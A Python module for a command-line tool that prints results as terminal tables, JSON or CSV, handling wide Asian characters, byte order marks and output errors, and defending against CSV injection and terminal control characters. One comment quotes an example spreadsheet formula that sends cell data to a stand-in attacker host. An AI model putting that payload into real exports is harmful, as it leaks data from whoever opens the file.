"""How commands print: aligned tables for people, JSON or CSV for scripts."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
import csv
import errno
import json
import os
import sys
from typing import IO, Any, Callable, Iterable, Sequence

import click
from wcwidth import wcwidth

from .errors import UserError


# A cell starting with one of these is a formula to Excel and LibreOffice (CSV injection):
# a crawled title such as `=HYPERLINK("http://evil.example/?"&A1, "Read")` would run when an
# analyst opens the export.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: Any) -> Any:
    """``value``, with a leading ``'`` when it is text a spreadsheet would take for a formula
    (a spreadsheet shows the text as is and hides the quote); numbers such as -3 unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    try:
        float(value)
        return value
    except ValueError:
        return "'" + value


def counted(count: int, noun: str, plural: str | None = None) -> str:
    """A count with its noun in the number it takes: ``1 item``, ``0 items``, ``2 items``
    (``plural`` where an "s" is wrong: ``counted(n, "delivery", "deliveries")``). Messages
    had said "1 items classified", "1 errors"."""
    return f"{count} {noun if count == 1 else plural or noun + 's'}"


def _cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, (list, tuple)):
        return ",".join(str(v) for v in value)
    if isinstance(value, float):
        return f"{value:.3g}"
    return printable(str(value).replace("\n", " "))


# Control characters a terminal would obey (ESC, CSI...): tables show stored text, which came
# from crawled pages, possibly before the crawler dropped them.
_TERMINAL_CONTROLS = dict.fromkeys([*range(0x20), 0x7F, *range(0x80, 0xA0)], "")


def printable(text: str) -> str:
    """``text`` without control characters (line breaks included), fit for one terminal line."""
    return text.translate(_TERMINAL_CONTROLS)


def _char_width(char: str) -> int:
    """Terminal columns of one character: two for the wide ones (Chinese, Japanese and Korean
    letters, fullwidth forms), none for combining marks (wcwidth's Unicode tables; a control
    character, which it calls -1, takes none)."""
    return max(wcwidth(char), 0)


def display_width(text: str) -> int:
    """How many terminal columns ``text`` takes (a table's alignment counts these, not
    characters: a Japanese title is twice as wide as its length)."""
    return sum(_char_width(char) for char in text)


def _fit(text: str, width: int) -> str:
    """``text`` cut to at most ``width`` terminal columns, ending with "…" where it was cut: a
    title cut bare reads as whole ("JSA welcomes out" for "... welcomes outcome")."""
    if display_width(text) <= width:
        return text
    used = 0
    for n, char in enumerate(text):
        used += _char_width(char)
        if used > width - 1:  # room for the ellipsis, one column
            return text[:n].rstrip() + "…"
    return text


def _pad(text: str, width: int) -> str:
    return text + " " * (width - display_width(text))


def table(rows: Iterable[dict[str, Any]], columns: Sequence[str], *, max_width: int = 60) -> str:
    """A plain aligned text table (no borders: it pastes cleanly into mail and tickets)."""
    body = [[_fit(_cell(row.get(c)), max_width) for c in columns] for row in rows]
    widths = [max([len(c)] + [display_width(r[i]) for r in body])
              for i, c in enumerate(columns)]
    lines = ["  ".join(_pad(c.upper(), w) for c, w in zip(columns, widths)).rstrip()]
    lines += ["  ".join(_pad(v, w) for v, w in zip(r, widths)).rstrip() for r in body]
    return "\n".join(lines)


@contextmanager
def writing_stdout() -> Iterator[None]:
    """Results written to stdout, flushed; a write that fails (`export > items.csv` on a disk
    that filled) is one UserError naming standard output, not a traceback. A closed pipe
    (`| head`) is left to click, which ends quietly."""
    try:
        yield
        sys.stdout.flush()
    except OSError as error:
        if error.errno == errno.EPIPE:
            raise
        try:
            # what is still buffered would fail again in the flush at exit, with a traceback
            null = os.open(os.devnull, os.O_WRONLY)
            os.dup2(null, sys.stdout.fileno())
            os.close(null)
        except (OSError, ValueError, AttributeError):  # not a real file (a test's runner)
            pass
        raise UserError(f"standard output: cannot write: {error.strerror or error}") from None


def echo_table(rows: Iterable[dict[str, Any]], columns: Sequence[str], **kw: Any) -> None:
    with writing_stdout():
        click.echo(table(rows, columns, **kw))


def echo_json(data: Any) -> None:
    """Exactly one JSON document on stdout, in UTF-8 (RFC 8259)."""
    utf8_stdout()
    with writing_stdout():
        click.echo(json.dumps(data, indent=2, ensure_ascii=False, default=str))


# Excel on Windows reads a CSV file as the ANSI code page (Shift_JIS on Japanese Windows)
# unless it starts with this mark: without it, UTF-8 Japanese text opens garbled. Pipes and
# other tools do without it (a BOM ends up in the first header cell), hence opt-in.
BOM = "\ufeff"
BOM_HELP = ("Start the CSV with a UTF-8 byte order mark, so that Excel on Windows opens "
            "Japanese text ungarbled [default: the csv_bom setting, off].")


def bom_option(command: Callable[..., Any]) -> Callable[..., Any]:
    """--bom/--no-bom, None when neither is given (the csv_bom setting decides)."""
    return click.option("--bom/--no-bom", "bom", default=None, help=BOM_HELP)(command)


def json_option(command: Callable[..., Any]) -> Callable[..., Any]:
    """--json beside --format json, as status, crawl, classify and the rest spell it: a user
    who types it there typed it here too, and click answered "Did you mean '--since'?"."""
    return click.option("--json", "as_json", is_flag=True,
                        help="Same as --format json.")(command)


def output_format(fmt: str, as_json: bool) -> str:
    """The format --format and --json ask for together; two different ones are refused."""
    if not as_json:
        return fmt
    source = click.get_current_context().get_parameter_source("fmt")
    if fmt != "json" and source is click.core.ParameterSource.COMMANDLINE:
        raise click.UsageError(f"--json and --format {fmt} ask for two formats: give one")
    return "json"


def wants_bom(flag: bool | None, setting: bool, fmt: str) -> bool:
    """Whether CSV output in ``fmt`` starts with a BOM: --bom/--no-bom, else the setting.
    --bom with another format is a usage error; the setting only applies to CSV."""
    if flag and fmt != "csv":
        raise click.UsageError(f"--bom applies to --format csv only, not {fmt}")
    return fmt == "csv" and (setting if flag is None else flag)


def utf8_stdout() -> None:
    """Make stdout UTF-8 whatever the locale, for JSON, JSON Lines and CSV: on Windows,
    stdout redirected to a file is the ANSI code page (cp932 on Japanese Windows), which has
    no Korean letters and misses many Chinese ones, and a BOM announces UTF-8."""
    encoding = (getattr(sys.stdout, "encoding", None) or "").lower().replace("-", "")
    if encoding != "utf8" and hasattr(sys.stdout, "reconfigure"):
        sys.stdout.reconfigure(encoding="utf-8")


def write_csv(stream: IO[str], rows: Iterable[dict[str, Any]], columns: Sequence[str], *,
              bom: bool = False) -> int:
    """``rows`` as CSV with a header: lists joined with commas, text a spreadsheet would run
    as a formula quoted (``spreadsheet_text``), one row at a time; returns how many rows.
    ``bom``: a UTF-8 byte order mark first (``stream`` must be UTF-8)."""
    if bom:
        stream.write(BOM)
    writer = csv.DictWriter(stream, fieldnames=list(columns), extrasaction="ignore",
                            lineterminator="\n")
    writer.writeheader()
    count = 0
    for row in rows:
        writer.writerow({c: spreadsheet_text(_cell(row.get(c))
                                             if isinstance(row.get(c), (list, tuple))
                                             else row.get(c)) for c in columns})
        count += 1
    return count


def echo_csv(rows: Iterable[dict[str, Any]], columns: Sequence[str], *,
             bom: bool = False) -> None:
    utf8_stdout()
    with writing_stdout():
        write_csv(sys.stdout, rows, columns, bom=bom)


def echo_rows(rows: list[dict[str, Any]], columns: Sequence[str], fmt: str) -> None:
    """Print rows as ``table``, ``json`` or ``csv``."""
    if fmt == "json":
        echo_json(rows)
    elif fmt == "csv":
        echo_csv(rows, columns)
    else:
        echo_table(rows, columns)
